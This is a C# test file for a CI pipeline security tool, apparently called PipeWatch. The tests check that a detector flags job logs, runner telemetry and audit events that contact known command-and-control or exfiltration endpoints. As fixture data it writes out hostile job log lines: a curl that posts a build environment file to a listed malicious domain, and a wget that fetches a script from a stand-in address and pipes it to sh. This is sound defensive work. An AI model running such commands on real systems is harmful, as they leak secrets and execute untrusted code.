using PipeWatch.Findings;
using PipeWatch.Tests.Intel;
using PipeWatch.Tests.Sources.JobLogs;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Detectors.ThreatIntel;

public sealed class C2ContactDetectorTests : IDisposable
{
    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    private string Store => _temp.File("store.db");

    // The real GitLab trace fixture with line 18 (npm ci's output) replaced and its token echo masked.
    private string GitLabTrace(string line18)
    {
        var lines = File.ReadAllText(JobLogFixtures.GitLabTrace).Split('\n');
        lines[17] = line18;
        var path = _temp.File("9412345679.log");
        File.WriteAllText(path, string.Join('\n', lines.Select(l => l.Replace(JobLogFixtures.GitLabToken, "[MASKED]", StringComparison.Ordinal))));
        return path;
    }

    private static IReadOnlyList<Finding> C2(IngestResult result) => [.. result.Findings.Where(f => f.Rule == "threat-intel.c2-contact")];

    [Fact]
    public async Task A_job_log_calling_a_subdomain_of_a_misp_domain_is_reported_at_its_line()
    {
        IntelStore.Import(Store, Corpus.File("intel", "misp", "existing_event.json"));
        var log = GitLabTrace("curl -s -X POST https://cdn.movieultimate.com/upload -d @build-env.txt");

        var result = await Ingest.RunAsync(Store, [log]);

        var finding = Assert.Single(C2(result));
        Assert.Equal("threat-intel.c2-contact", finding.Rule);
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Equal("Job '9412345679', step 'step_script' contacted a known C2/exfiltration endpoint: https://cdn.movieultimate.com/upload", finding.Title);
        Assert.Equal(new Location(null, log, 18), finding.Location);
        Assert.Equal(new Entity("acme/payments-api", null, "9412345679", "step_script"), finding.Entity with { Pipeline = null });
        Assert.Equal(["T1071"], finding.Techniques);
        Assert.Equal("movieultimate.com", finding.Evidence.Single(e => e.Name == "indicator").Value);
        Assert.Equal("existing_event.json", finding.Evidence.Single(e => e.Name == "feed").Value);
        Assert.Equal("line 18 of the log", finding.Evidence.Single(e => e.Name == "seen_in").Value);
        Assert.Contains(
            "'https://cdn.movieultimate.com/upload' matches the domain indicator 'movieultimate.com' (feed 'existing_event.json', listed since 2017-12-21 (8 years ago), no confidence given): OSINT - Sednit update",
            finding.Explanation,
            StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_defanged_indicator_matches_its_refanged_use()
    {
        var list = _temp.File("incident-blocklist.txt");
        File.WriteAllText(list, "# from the incident review\nexfil-collector[.]example\nhxxp://198.51.100[.]7/drop\n");
        IntelStore.Import(Store, list);
        var log = GitLabTrace("wget -q -O- http://198.51.100.7/drop | sh; nslookup x1.exfil-collector.example");

        var result = await Ingest.RunAsync(Store, [log]);

        Assert.Equal(
            [("http://198.51.100.7/drop", "http://198.51.100.7/drop"), ("exfil-collector.example", "x1.exfil-collector.example")],
            C2(result).Select(f => (f.Evidence.Single(e => e.Name == "indicator").Value, f.Evidence.Single(e => e.Name == "observed").Value)));
        Assert.All(C2(result), f => Assert.Equal(18, f.Location.Line));
    }

    [Fact]
    public async Task An_expired_or_revoked_stix_indicator_does_not_match()
    {
        var bundle = _temp.File("stale.json");
        File.WriteAllText(bundle, """
            {"type":"bundle","id":"bundle--9","objects":[
              {"type":"indicator","spec_version":"2.1","id":"indicator--old","pattern_type":"stix","pattern":"[domain-name:value = 'old-c2.example']","valid_from":"2020-01-01T00:00:00Z","valid_until":"2021-01-01T00:00:00Z"},
              {"type":"indicator","spec_version":"2.1","id":"indicator--rev","pattern_type":"stix","pattern":"[domain-name:value = 'revoked-c2.example']","valid_from":"2020-01-01T00:00:00Z","revoked":true},
              {"type":"indicator","spec_version":"2.1","id":"indicator--live","pattern_type":"stix","pattern":"[domain-name:value = 'live-c2.example']","valid_from":"2020-01-01T00:00:00Z","confidence":85}
            ]}
            """);
        IntelStore.Import(Store, bundle);
        var log = GitLabTrace("curl https://old-c2.example/a https://revoked-c2.example/b https://live-c2.example/c");

        var result = await Ingest.RunAsync(Store, [log]);

        var finding = Assert.Single(C2(result));
        Assert.Equal("live-c2.example", finding.Evidence.Single(e => e.Name == "indicator").Value);
        Assert.Equal("85", finding.Evidence.Single(e => e.Name == "confidence").Value);
    }

    [Fact]
    public async Task Runner_telemetry_reaching_an_exfiltration_service_is_reported_at_low_severity_from_the_built_in_list()
    {
        var file = _temp.File("net.jsonl");
        File.WriteAllText(file,
            """{"@timestamp":"2026-11-20T10:05:00Z","event":{"category":"network","id":"n-1"},"destination":{"domain":"d7e1.webhook.site","ip":"192.0.2.80","port":443},"ci":{"repository":"acme/api","pipeline":"CI","run_id":"99","job":"build"}}""" + "\n" +
            """{"@timestamp":"2026-11-20T10:05:01Z","event":{"category":"network","id":"n-2"},"destination":{"domain":"registry.npmjs.org","ip":"104.16.0.35","port":443},"ci":{"repository":"acme/api","pipeline":"CI","run_id":"99","job":"build"}}""" + "\n");

        var result = await Ingest.RunAsync(Store, [file]);

        // One connection, one alert: the built-in Sigma pack no longer has a rule of its own for these services (every
        // detector of ingest ran here), so the finding is this detector's, with its feed, source and allowlist.
        var finding = Assert.Single(result.Findings);
        Assert.Equal("threat-intel.c2-contact", finding.Rule);
        Assert.Equal(Severity.Low, finding.Severity);
        Assert.Equal("Job 'build' contacted a known exfiltration or tunnel service: d7e1.webhook.site", finding.Title);
        Assert.Equal(new Entity("acme/api", "CI", "build"), finding.Entity);
        Assert.Equal(new Location("99", file, 1), finding.Location);
        Assert.Equal("pipewatch-exfil-services", finding.Evidence.Single(e => e.Name == "feed").Value);
        Assert.Equal("runner telemetry field destination.domain", finding.Evidence.Single(e => e.Name == "seen_in").Value);
        Assert.Equal(["T1041"], finding.Techniques);
    }

    [Fact]
    public async Task A_user_feed_naming_a_built_in_service_wins_and_alerts_at_its_own_severity()
    {
        var list = _temp.File("team.csv");
        File.WriteAllText(list, "type,value,description,confidence\ndomain,webhook.site,seen in our incident,90\n");
        IntelStore.Import(Store, list);
        var file = _temp.File("dns.jsonl");
        File.WriteAllText(file, """{"@timestamp":"2026-11-20T10:05:00Z","event":{"category":"network","id":"d-1"},"dns":{"question":{"name":"webhook.site"}},"ci":{"repository":"acme/api","run_id":"7","job":"test"}}""" + "\n");

        var finding = Assert.Single(C2(await Ingest.RunAsync(Store, [file])));

        Assert.Equal(Severity.High, finding.Severity);
        Assert.Equal("team.csv", finding.Evidence.Single(e => e.Name == "feed").Value);
        Assert.Equal("runner telemetry field dns.question.name", finding.Evidence.Single(e => e.Name == "seen_in").Value);
    }

    [Fact]
    public async Task An_audited_action_from_an_address_in_an_apt1_block_is_reported()
    {
        IntelStore.Import(Store, Corpus.File("intel", "stix", "examples", "threat-reports", "apt1.json"));
        var audit = _temp.File("audit.json");
        File.WriteAllText(audit, """
            [{"@timestamp":1671111111111,"_document_id":"gA1","action":"business_advanced_security.disabled","actor":"bobert","actor_ip":"223.167.10.20","actor_location":{"country_code":"CN"},"business":"example-enterprise","created_at":1671111111111,"operation_type":"modify","user":"bobert"},
             {"@timestamp":1671111112222,"_document_id":"gA2","action":"business_advanced_security.enabled","actor":"alice","actor_ip":"12.12.12.12","actor_location":{"country_code":"US"},"business":"example-enterprise","created_at":1671111112222,"operation_type":"modify","user":"alice"}]
            """);

        var result = await Ingest.RunAsync(Store, [audit]);

        var finding = Assert.Single(C2(result));
        Assert.Equal("'business_advanced_security.disabled' by bobert came from a known-bad address: 223.167.10.20", finding.Title);
        Assert.Equal("223.166.0.0/15", finding.Evidence.Single(e => e.Name == "indicator").Value);
        Assert.Equal("bobert", finding.Entity.Actor);
    }

    [Fact]
    public async Task Ordinary_logs_and_telemetry_raise_nothing_against_every_corpus_feed()
    {
        IntelStore.Import(
            Store,
            Corpus.File("intel", "misp", "existing_event.json"),
            Corpus.File("intel", "stix", "examples", "threat-reports", "apt1.json"),
            Corpus.File("intel", "stix", "examples", "threat-reports", "poisonivy.json"),
            IntelFixtures.File("threatfox-recent.csv"),
            IntelFixtures.File("urlhaus-recent.csv"));
        var clean = GitLabTrace("added 812 packages, and audited 813 packages in 9s");
        var net = _temp.File("net.jsonl");
        File.WriteAllText(net, """{"@timestamp":"2026-11-20T10:05:01Z","event":{"category":"network","id":"n-2"},"destination":{"domain":"registry.npmjs.org","ip":"104.16.0.35","port":443},"url":{"full":"https://registry.npmjs.org/left-pad"}}""" + "\n");

        var result = await Ingest.RunAsync(Store, [clean, JobLogFixtures.GitHubMaskedLog, JobLogFixtures.JenkinsLog, net]);

        Assert.Empty(C2(result));
    }
}
